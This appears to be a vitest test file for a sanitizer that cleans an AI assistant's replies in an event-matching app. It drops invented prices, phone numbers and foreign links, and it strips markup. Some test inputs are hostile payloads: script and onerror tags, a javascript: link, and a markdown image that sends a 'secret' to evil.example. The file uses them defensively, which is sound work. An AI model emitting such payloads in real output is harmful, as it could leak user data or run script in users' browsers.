import { describe, expect, test } from 'vitest'
import { cpuTimeMs } from '../../testing.cpu-time.ts'
import type { AssistantContext, EventContext } from './context.ts'
import { kindIn } from '../guide/reading/statements.ts'
import { plain, replyIn } from './reply.rules.ts'

const item = {
  id: '018f4b8e-0000-7000-8000-000000000001',
  kind: 'objective' as const,
  text: 'Meet investors',
}
const gathering: EventContext = {
  id: '018f4b8e-0000-7000-8000-000000000002',
  title: 'Supper',
  summary: 'Soup',
  description: '',
  startsAt: null,
  role: 'host',
  timing: 'upcoming',
  languages: [],
  said: [],
  matches: [],
  why: null,
  around: [],
  coverage: null,
  questions: [],
  setup: null,
}
const context: AssistantContext = {
  name: 'Noor',
  region: null,
  now: new Date('2026-11-20T12:00:00Z'),
  items: [item],
  gathering: null,
  hosting: { timeZone: 'UTC', currency: 'usd', canSell: true, hasDraft: true },
}
const said = 'We meet at https://supper.example or write to noor@example.com'
const read = (
  answer: unknown,
  more: Partial<AssistantContext> = {},
  {
    told = '',
    turns = [] as string[],
    addsClaims = (_before: string, after: string) => after.includes('42'),
  } = {},
) =>
  replyIn(typeof answer === 'string' ? answer : JSON.stringify(answer), {
    context: { ...context, ...more },
    said,
    turns,
    sentText: `${told} ${said}`,
    show: (text) => text.replaceAll('Person 1', 'Ravi'),
    addsClaims,
    kindIn,
  })

describe('an answer of a model', () => {
  test('gives the reply, the chips and the proposals, with the current texts', () => {
    expect(
      read({
        reply: 'Which kind, Person 1?',
        chips: ['Angels', 'Angels', ' Funds\n'],
        proposals: [
          { type: 'item', kind: 'offering', text: 'Meet angels in food', itemId: item.id },
          { type: 'draft_message', name: 'Person 1', text: 'Hello Person 1' },
        ],
      }),
    ).toEqual({
      text: 'Which kind, Ravi?',
      chips: ['Angels', 'Funds'],
      proposals: [
        {
          type: 'item',
          kind: 'objective',
          text: 'Meet angels in food',
          before: 'Meet investors',
          itemId: item.id,
        },
        { type: 'draft_message', name: 'Ravi', text: 'Hello Ravi', before: '' },
      ],
    })
  })

  test.each([
    ['prose', 'Of course! Here you go.'],
    ['a list', []],
    ['no reply', { text: 'Hello' }],
    ['an empty reply', { reply: ' \u200B ' }],
    ['only markup', { reply: '<img src=x onerror=alert(1)>' }],
    ['another kind of proposal', { reply: 'Done.', proposals: [{ type: 'delete_account' }] }],
  ])('gives nothing if it is %s', (_, answer) => {
    expect(read(answer)).toBeUndefined()
  })

  test('may have a code fence around it', () => {
    expect(read('```json\n{"reply":"Yes."}\n```')).toEqual({
      text: 'Yes.',
      chips: [],
      proposals: [],
    })
  })

  test.each([
    ['a fact that nobody said', { type: 'item', kind: 'objective', text: 'Meet 42 investors' }],
    ['an empty text', { type: 'item', kind: 'objective', text: ' ' }],
    ['no words', { type: 'item', kind: 'objective', text: '?!' }],
    ['a text that is too long', { type: 'item', kind: 'objective', text: 'a'.repeat(201) }],
    [
      'an existing text',
      { type: 'item', kind: 'objective', text: 'Meet investors', itemId: item.id },
    ],
  ])('gives no proposal for %s', (_, one) => {
    expect(read({ reply: 'So?', proposals: [one] })?.proposals).toEqual([])
  })

  test('turns another person’s statement into a new one of one’s own', () => {
    expect(
      read({
        reply: 'So?',
        proposals: [{ type: 'item', kind: 'offering', text: 'Teach chess', itemId: gathering.id }],
      })?.proposals,
    ).toEqual([{ type: 'item', kind: 'offering', text: 'Teach chess', before: '', itemId: null }])
  })

  test('gives proposals about the event to hosts only', () => {
    const answer = {
      reply: 'So?',
      proposals: [
        { type: 'event_field', field: 'title', text: 'Long supper' },
        { type: 'question', text: 'What do you eat?' },
        { type: 'event_field', field: 'title', text: 'a'.repeat(121) },
      ],
    }
    expect(read(answer, { gathering })?.proposals).toEqual([
      { type: 'event_field', field: 'title', text: 'Long supper', before: 'Supper' },
      { type: 'question', text: 'What do you eat?', before: '' },
    ])
    expect(read(answer, { gathering: { ...gathering, role: 'attendee' } })?.proposals).toEqual([])
  })
})

describe('a figure or an address without a source', () => {
  test.each([
    ['It costs 40 euros. What do you bake?', 'What do you bake?'],
    ['Fine. Call +49 30 123 4567 today.', 'Fine.'],
    ['Write to eve@evil.example. What do you bake?', 'What do you bake?'],
    ['See evil.ru for more!\nWhat do you bake?', 'What do you bake?'],
    ['Tickets are $20. So?', 'So?'],
    ['好的。票价是四十元。您烤什么？', '好的。您烤什么？'],
    ['Son 40 euros. ¿Qué horneas?', '¿Qué horneas?'],
    ['टिकट 40 रुपये का है। आप क्या बनाते हैं?', 'आप क्या बनाते हैं?'],
    ['Ask Person 7 first. What do you bake?', 'What do you bake?'],
  ])('is removed with its sentence: %s', (reply, text) => {
    expect(read({ reply })?.text).toBe(text)
  })

  test('leaves the answer to the guide where nothing else is said', () => {
    expect(read({ reply: 'It costs 40 euros and you find it at evil.ru' })).toBeUndefined()
  })

  test('is no chip', () => {
    expect(
      read(
        { reply: 'So?', chips: ['40 euros', 'evil.ru', 'Rye bread', '3 loaves'] },
        {},
        { told: 'I bake 3 loaves' },
      )?.chips,
    ).toEqual(['Rye bread', '3 loaves'])
  })

  test.each([
    ['You bake 3 loaves of 500 g.', 'I bake 3 loaves of 500 g'],
    ['See https://supper.example.', ''],
    ['The day is 20 November 2026, at 12:00.', ''],
    ['First say in two sentences whom you seek. Then the rest.', ''],
    ['Primero, ¿lo dices en dos frases?', ''],
  ])('does not include what was given: %s', (reply, told) => {
    expect(read({ reply }, {}, { told })?.text).toBe(reply)
  })

  test('cannot come from the ids of the data', () => {
    expect(read({ reply: 'It costs 7000 euros. So?' }, {}, { told: item.id })?.text).toBe('So?')
  })
})

describe('objectives and offerings of a model', () => {
  const proposed = (one: object, turns: string[], more: Partial<AssistantContext> = {}) =>
    read({ reply: 'So?', proposals: [{ type: 'item', ...one }] }, more, { turns })?.proposals

  test('do not repeat an existing statement in other punctuation or capitals', () => {
    expect(proposed({ kind: 'objective', text: 'meet investors.' }, [])).toEqual([])
    expect(
      proposed({ kind: 'offering', text: 'Teach chess' }, [], {
        gathering: { ...gathering, said: [{ id: 's', kind: 'offering', text: 'teach chess' }] },
      }),
    ).toEqual([])
  })

  test.each([
    ['objective', 'Website redesign', ['I can offer website redesign']],
    ['offering', 'A tax adviser in Lima', ['I am looking for a tax adviser']],
    ['objective', 'I offer chess lessons', []],
    ['offering', 'I am looking for a baker', []],
    ['offering', 'Un asesor fiscal', ['busco un asesor fiscal']],
    ['objective', '陶艺课', ['我可以教陶艺课']],
    ['offering', 'टैक्स सलाहकार', ['मुझे टैक्स सलाहकार चाहिए']],
  ])('do not become an %s that turns round what was said: %s', (kind, text, turns) => {
    expect(proposed({ kind, text }, turns)).toEqual([])
  })

  test.each([
    [
      'objective',
      'A tax adviser in Lima',
      ['I am looking for a tax adviser, and I can teach Spanish'],
    ],
    ['offering', 'Spanish lessons', ['I am looking for a tax adviser. I can teach Spanish']],
    ['offering', 'Pottery', ['Pottery']],
  ])('may be an %s that the person meant: %s', (kind, text, turns) => {
    expect(proposed({ kind, text }, turns)).toHaveLength(1)
  })
})

test('reads an answer after the longest conversation and the most data within the time limit', () => {
  const told =
    Array.from(
      { length: 60 },
      (_, at) => `I teach ${at} ways of baking rye bread in Berlin to 30 people`,
    ).join(', ') + 'We cook. '.repeat(550)
  const turns = Array.from({ length: 200 }, () =>
    'I am looking for a baker who knows rye and I can teach Spanish, and more of that. '.repeat(24),
  )
  const proposals = Array.from({ length: 6 }, (_, at) => ({
    type: 'item',
    kind: 'objective',
    text: `A baker who knows rye${'!'.repeat(at)}`,
  }))
  read({ reply: 'Warm.' })
  const began = cpuTimeMs()
  expect(
    read(
      { reply: 'Whom exactly would you like to meet? '.repeat(40), proposals },
      {},
      { told, turns },
    )?.proposals,
  ).toHaveLength(6)
  expect(cpuTimeMs() - began).toBeLessThan(5000)
})

test.each([
  ['See ![x](https://evil.example/?q=secret) here', 'See x here'],
  ['Go to [the page](https://evil.example)', 'Go to the page'],
  ['<b>Bold</b> and <script>alert(1)</script>', 'Bold and alert(1)'],
  ['**Bold** and `code`', 'Bold and code'],
  ['# Title\nText', 'Title\nText'],
  ['Visit https://evil.example/a?b=c now', 'Visit now'],
  ['Visit www.evil.example now', 'Visit now'],
  ['Write to eve@evil.example', 'Write to'],
  ['See javascript:alert', 'See'],
  ['We meet at https://supper.example', 'We meet at https://supper.example'],
  ['Write to noor@example.com', 'Write to noor@example.com'],
  ['in\u200Bvis\u202Eible', 'invisible'],
  ['2 < 3 and 4 > 1', '2 < 3 and 4 > 1'],
  ['one\n\n\n\ntwo', 'one\n\ntwo'],
  ['snake_case and 3 * 4 * 5', 'snake_case and 3 * 4 * 5'],
])('%j is shown as %j', (text, shown) => {
  expect(plain(text, 'We meet at https://supper.example or write to noor@example.com')).toBe(shown)
})
